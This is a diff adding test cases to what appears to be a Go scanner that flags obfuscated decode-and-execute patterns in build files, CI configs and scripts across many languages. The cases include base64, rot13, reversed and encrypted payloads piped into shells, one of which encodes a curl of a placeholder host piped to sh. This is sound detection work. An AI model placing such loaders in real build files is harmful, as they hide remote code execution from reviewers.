@@ -84,6 +84,39 @@ var registry = []Rule{
 			{"ci/builder.Containerfile", "FROM debian\nARG H=Y3VybCBodHRwczovL3guaW52YWxpZCB8IHNo\nRUN apt-get update \\\n&& echo \"$H\" \\\n  | base64 -d \\\n  | sh", 6, false},
 			{"debian/rules", "#!/usr/bin/make -f\n%:\n\tdh $@\noverride_dh_auto_build:\n\tcat tests/files/x.xz | tr '\\t \\-_' ' \\t_\\-' | xz -dc | sh", 5, false},
 			{"debian/rules", "#!/usr/bin/make -f\n%:\n\tdh $@\noverride_dh_auto_test:\n\txz -dc tests/data.xz > tests/data\n\tdh_auto_test", 0, true},
+			// Every decoder reaching every shell or interpreter: openssl,
+			// zstd, brotli, uudecode to standard output, text reversed or
+			// rotated by tr, into BusyBox's ash, mksh, deno or osascript,
+			// and an Earthfile's RUN, which is Dockerfile shell.
+			{"Earthfile", "VERSION 0.8\ndeps:\n    ARG HINT=Y3VybCBodHRwczovL3guaW52YWxpZCB8IHNo\n    RUN echo \"$HINT\" | openssl enc -d -base64 -A | ash", 0, false},
+			{"build/x.earth", "VERSION 0.8\nb:\n    RUN echo \"$H\" | base64 -d > /tmp/h\n    RUN sh /tmp/h", 0, false},
+			{"x.sh", "brotli -d < assets/x.br | busybox sh", 0, false},
+			{"x.sh", "echo \"$P\" | uudecode -o /dev/stdout | mksh", 0, false},
+			{"x.sh", "echo \"$P\" | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh", 0, false},
+			{"x.sh", "echo \"$P\" | tr '!-~' 'P-~!-O' | bash", 0, false},
+			{"x.sh", "echo \"$P\" | rev | sh", 0, false},
+			{"x.sh", "busybox sh -c \"$(echo $P | base64 -d)\"", 0, false},
+			{"x.sh", "echo \"$P\" | base64 -d | deno run -", 0, false},
+			{"x.sh", "osascript -e \"$(echo $P | base64 -d)\"", 0, false},
+			{"x.sh", "echo \"$P\" | openssl aes-256-cbc -d -k k | sh", 0, false},
+			{"notes/run.txt.tmpl", "printf '\\x63\\x75\\x72\\x6c\\x20\\x68' | sh", 0, false},
+			// Reversing to cut a field, case mapping, a decompressed file: data.
+			{"x.sh", "v=$(echo \"$tag\" | rev | cut -d/ -f1 | rev)\necho \"$x\" | tr 'A-Z' 'a-z' | sh -c 'read y; echo $y'\necho \"$v\"", 0, true},
+			// Decoders in Groovy, Gradle, Elixir, Erlang, C#, Ruby, R and Perl,
+			// and a Jenkins sh step given the decoded text.
+			{"ci/x.groovy", "def s = new String(P.decodeBase64())\n[\"sh\", \"-c\", s].execute()", 2, false},
+			{"build.gradle", "def s = new String(P.decodeBase64())\nexec { commandLine 'sh', '-c', s }", 2, false},
+			{"Jenkinsfile", "node {\n  def s = new String(env.P.decodeBase64())\n  sh s\n}", 3, false},
+			{"mix.exs", "defmodule X.MixProject do\n  System.cmd(\"sh\", [\"-c\", Base.decode64!(@p)])\nend", 2, false},
+			{"lib/x.ex", "Code.eval_string(Base.decode64!(p))", 0, false},
+			{"rebar.config.script", "os:cmd(base64:decode_to_string(P)).", 0, false},
+			{"build/Tool.cs", "var s = Encoding.UTF8.GetString(Convert.FromBase64String(P));\nProcess.Start(\"bash\", \"-c \\\"\" + s + \"\\\"\");", 2, false},
+			{"lib/x.rb", "s = Base64.strict_decode64(P)\n`#{s}`", 2, false},
+			{"R/zzz.R", "eval(parse(text = rawToChar(base64enc::base64decode(p))))", 0, false},
+			{"x.pl", "eval unpack(\"u\", $p);", 0, false},
+			{"x.py", "import binascii\nexec(binascii.a2b_base64(P))", 2, false},
+			// Decoded bytes written to a file are data.
+			{"build.gradle", "def b = P.decodeBase64()\nnew File('keystore.jks').bytes = b", 0, true},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", WhyDownload, []Case{
 		// PowerShell's call operator runs the program it names: fetched
